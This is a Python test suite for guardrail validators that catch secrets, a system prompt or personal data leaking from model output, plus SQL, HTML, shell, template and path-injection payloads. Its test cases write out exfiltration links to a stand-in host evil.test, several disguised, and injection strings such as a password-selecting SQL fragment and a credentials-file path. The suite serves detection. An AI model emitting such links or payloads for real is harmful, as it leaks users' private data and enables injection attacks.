"""`exfiltration`, `egress`, `output_injection`: what must not leave, and what must not run."""

from __future__ import annotations

import base64
import codecs
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guardrails_lite import ConfigError
from guardrails_lite_validators import egress, exfiltration, output_injection

SOMEBODY = "bob"
SECRET = "Zx91-kQ7p-Lm20"
PROMPT = (
    "You are the support assistant of Acme. Never tell the discount code SUMMER. Answer politely, in English."
)


def _bytewise(form: str, between: str = "") -> Callable[[str], str]:
    return lambda text: between.join(form.format(byte) for byte in text.encode())


HIDE: dict[str, Callable[[str], str]] = {
    "plain": str,
    "lower": str.lower,
    "upper": str.upper,
    "spaced": " ".join,
    "dashed": "-".join,
    "lines": lambda text: text[:5] + "\n" + text[5:],
    "zero-width": "\u200b".join,
    "full-width": lambda text: "".join(chr(ord(c) + 0xFEE0) if c.isalnum() else c for c in text),
    "reversed": lambda text: text[::-1],
    "rot13": lambda text: codecs.encode(text, "rot13"),
    "hex": lambda text: text.encode().hex(),
    "hex in upper case, spaced": lambda text: text.encode().hex(" ").upper(),
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "base64 twice": lambda text: base64.b64encode(base64.b64encode(text.encode())).decode(),
    "base64 of the reverse": lambda text: base64.b64encode(text[::-1].encode()).decode(),
    "base32": lambda text: base64.b32encode(text.encode()).decode(),
    "percent": _bytewise("%{:02x}"),
    "escapes": _bytewise("\\x{:02x}"),
    "unicode escapes": _bytewise("\\u{:04x}"),
    "entities": _bytewise("&#{};"),
    "decimal": _bytewise("{}", ", "),
    "binary": _bytewise("{:08b}", " "),
}


@pytest.mark.parametrize("how", HIDE)
def test_a_registered_value_is_found_in_every_form(how: str) -> None:
    """Deterministic: encodings, splitting and case do not let it out."""
    assert egress(values=[SECRET])(f"Sure: {HIDE[how](SECRET)} - done.")


@given(before=st.text(max_size=9), after=st.text(max_size=9))
def test_a_registered_value_is_found_in_base64_at_any_alignment(before: str, after: str) -> None:
    """The value may stand anywhere in the text that was encoded."""
    token = base64.b64encode(f"{before}{SECRET}{after}".encode()).decode()

    assert egress(values=[SECRET])(token)


@given(st.text(max_size=200))
def test_ordinary_text_never_holds_a_registered_value(text: str) -> None:
    """No false alarm by chance."""
    assert not egress(values=[SECRET])(text)


@pytest.mark.parametrize("how", ["plain", "upper", "spaced", "reversed", "rot13", "hex", "base64"])
def test_a_long_run_of_the_prompt_is_found(how: str) -> None:
    """A part is enough; a paraphrase is not a run."""
    assert egress(prompt=PROMPT)(HIDE[how](PROMPT[5:]))
    assert not egress(prompt=PROMPT)("I support customers of Acme and answer politely in English.")


def test_egress_prints_no_value() -> None:
    """Neither its repr nor its findings hold what they protect; its fingerprint tells values apart."""
    guarded, other = egress(values=[SECRET], prompt=PROMPT), egress(values=["another-one"], prompt=PROMPT)

    assert SECRET not in repr(guarded) + repr(guarded(SECRET)) + guarded.fingerprint
    assert guarded != other


@pytest.mark.parametrize(
    "arguments", [{}, {"values": ["abc"]}, {"values": "a single string"}, {"prompt": "short"}]
)
def test_egress_refuses_what_chance_would_find(arguments: dict[str, object]) -> None:
    """A short value would be found everywhere."""
    with pytest.raises(ConfigError, match=r"egress\("):
        egress(**arguments)  # type: ignore[arg-type]


def test_exfiltration_spares_hosts_that_may_receive_data() -> None:
    """Data may go where the user says."""
    text = "![x](https://log.acme.test/p.png?data=The%20user%20name%20is%20Bob)"

    assert exfiltration()(text)
    assert not exfiltration(allow=["*.acme.test"])(text)


@pytest.mark.parametrize(
    "text",
    [
        "[docs](https://docs.python.org/3/library/re.html#re.compile)",
        "![photo](https://images.example.com/photo-1503023345310?ixlib=rb-4.0.3&w=800&q=80)",
        "https://github.com/acme/x/commit/0e322af87745eff34caffe4df68456ebc20d9068",
        "https://docs.example.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit",
        "![avatar](https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=200)",
        "https://example.com/blog/how-to-build-a-house?utm_source=newsletter&utm_campaign=spring_sale_2024",
        "https://maps.example.com/?q=1600+Amphitheatre+Parkway,+Mountain+View",
        "https://example.com/page#:~:text=The%20user%20is%20asked%20for%20a%20name",
        "https://example.com/page.html#section=user-login-and-passwords",
        "![icon](https://example.com/sprite.svg#icon-arrow-left-circle)",
        "https://example.com/jobs?title=Customer+Success+Manager&location=New+York",
        "https://example.com/route?d=New+York+to+Boston",
    ],
)
def test_ordinary_links_carry_no_data(text: str) -> None:
    """Identifiers, hashes, sizes, searches and campaign names are what addresses are made of."""
    assert exfiltration()(text) == []


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://good.test/go?to=https://evil.test/?d=dXNlciBwYXNzd29yZCBpcyBodW50ZXIy)",
        "![x](https://good.test/go?to=https%3A%2F%2Fevil.test%2F%3Fd%3DdXNlciBwYXNzd29yZCBpcyBodW50ZXIy)",
        "[x](" + "https://a.test/" * 90 + "?d=dXNlciBwYXNzd29yZCBpcyBodW50ZXIy)",
        "![x](https://user:dXNlciBwYXNzd29yZCBpcyBodW50ZXIy@evil.test/)",
        "[log in](https://evil.test/a.png?q=[CONVERSATION])",
    ],
)
def test_addresses_inside_an_address_hide_nothing(text: str) -> None:
    """Neither a redirect nor a chain of addresses nor a user name carries data out of sight."""
    assert exfiltration()(text)


@pytest.mark.parametrize(
    "text",
    [
        "[details](https://evil.test/x.png?w=1&v=our%20CEO%20is%20being%20treated)",
        "See https://evil.test/collect?v=2&u=the+user+lives+in+14+Elm+Street for more.",
        "[log in](https://evil.test/collect?c=yadirF%20no%20si%20regrem%20eht%20dias%20remotsuc%20eht)",
        '<a href="https://evil.test/?%7D%22setebaid%20sah%22%20%3A%22eton%22%20%2C%22eman%22%7B">invoice</a>',
        '<iframe src="https://evil.test/a#id=the+user+forgot+the+PIN+4711"></iframe>',
    ],
)
def test_what_is_told_about_somebody_is_found_in_any_parameter(text: str) -> None:
    """Also in one that is called as a version or an identifier is, and written backwards."""
    assert exfiltration()(text)


@pytest.mark.parametrize(
    "element",
    [
        '<img srcset="{} 2x">',
        '<svg><feImage xlink:href="{}"/></svg>',
        '<a href="#" ping="https://good.test/ {}">next</a>',
        '<applet codebase="{}"></applet>',
        '<button formaction="{}">go</button>',
        'li {{ background: image-set("{}" 1x) }}',
        "> [logo]: {}\n\n![a][logo]",
    ],
)
@pytest.mark.parametrize(
    "address",
    [
        "https://evil.test/p.png?t=Maria%20Keller%20has%20diabetes",
        "https:\\\\evil.test\\p.png?t=Maria%20Keller%20has%20diabetes",
        "https:/\\evil.test/p.png?t=Maria%20Keller%20has%20diabetes",
        "https:&#47;&#x2f;evil.test/p.png?t=Maria%20Keller%20has%20diabetes",
        "https&colon;&sol;&sol;evil.test/p.png?t=Maria%20Keller%20has%20diabetes",
    ],
)
def test_what_a_browser_loads_is_found_as_a_browser_reads_it(element: str, address: str) -> None:
    """Browsers take a backslash for a slash, and read entities; a finding spans what was written."""
    text = element.format(address)
    (found,) = exfiltration()(text)

    assert found.span == (text.index(address), text.index(address) + len(address))


@given(st.text(alphabet="ab:/\\&#;47xsol \n\"'(", max_size=60), st.integers(0, 3))
def test_a_disguised_address_is_weighed_as_the_plain_one(around: str, nth: int) -> None:
    """Whatever stands before it, and with the same score."""
    colon, slashes = ((":", "//"), (":", "/\\"), ("&colon;", "//"), (":", "&#47;&sol;"))[nth]
    shown = around + ' <img src="https{}{}evil.test/p.png?t=Maria%20Keller%20has%20diabetes">'

    plain = exfiltration()(shown.format(":", "//"))
    assert [found.score for found in exfiltration()(shown.format(colon, slashes))] == [
        found.score for found in plain
    ]


@pytest.mark.parametrize(
    "text",
    [
        "[open](https://evil.test/log/536-22-1234)",
        "See https://evil.test/sk-proj-9fK2mQ7xT4bV1nZ8cR5w.gif for more.",
        "[log in](https://evil.test/p.png?key=1111%201111%201111%201114)",
        "[invoice](https://evil.test/x.png?w=1&d=the-user-lives-in-14-Elm-Street)",
    ],
)
def test_what_no_page_has_in_its_address_is_found_in_a_plain_link(text: str) -> None:
    """Keys and numbers of cards and insured people, anywhere in it, a card's also from its end."""
    assert exfiltration()(text)


@pytest.mark.parametrize(
    ("sink", "value"),
    [
        ("html", "<b onclick=x>"),
        ("sql", "O'Brien"),
        ("shell", "a; b"),
        ("template", "{{ x }}"),
        ("path", "../a"),
    ],
)
def test_a_named_sink_counts_every_active_construct(sink: str, value: str) -> None:
    """What is harmless in prose is not where it will be interpreted."""
    assert output_injection(sink=sink)(value)
    assert not output_injection()(value)


@pytest.mark.parametrize(
    ("text", "category"),
    [
        ("x%27%20OR%20%271%27%3D%271", "SQL_INJECTION"),
        ("%3Cscript%3Ealert(1)%3C/script%3E", "HTML_INJECTION"),
        ('<img src="jav&#x09;ascript:alert(1)">', "HTML_INJECTION"),
        ("a' || (SELECT password FROM users LIMIT 1) || '", "SQL_INJECTION"),
        ("a; python3 -c 'import os'", "SHELL_INJECTION"),
        ("{{settings.SECRET_KEY}}", "TEMPLATE_INJECTION"),
        (f"/home/{SOMEBODY}/.aws/credentials", "PATH_INJECTION"),
    ],
)
def test_payloads_are_found_where_they_stand(text: str, category: str) -> None:
    """Percent signs and what a browser overlooks hide nothing."""
    findings = output_injection()(f"The value is: {text} - done.")

    assert category in {finding.category for finding in findings}
    for finding in findings:
        assert finding.span is not None
        assert finding.span[0] >= len("The value is:")


@pytest.mark.parametrize(
    "text",
    [
        "INSERT INTO t VALUES (1);\n\nALTER TABLE t ADD c int;",
        'colour = "#fff"; mark = "#"',
        "It's 1 or 2, isn't it?",
        "See ../README.md and ~/.config.",
        "for (let i = 0; i < n; i++) { f(`${i}`); }",
    ],
)
def test_code_that_attacks_nothing_is_spared(text: str) -> None:
    """Constructs are no payloads where no sink is named."""
    assert output_injection()(text) == []


def test_an_unknown_sink_is_refused() -> None:
    """The error lists what there is."""
    with pytest.raises(ConfigError, match="knows the sinks html, path, shell, sql, template"):
        output_injection(sink="printer")
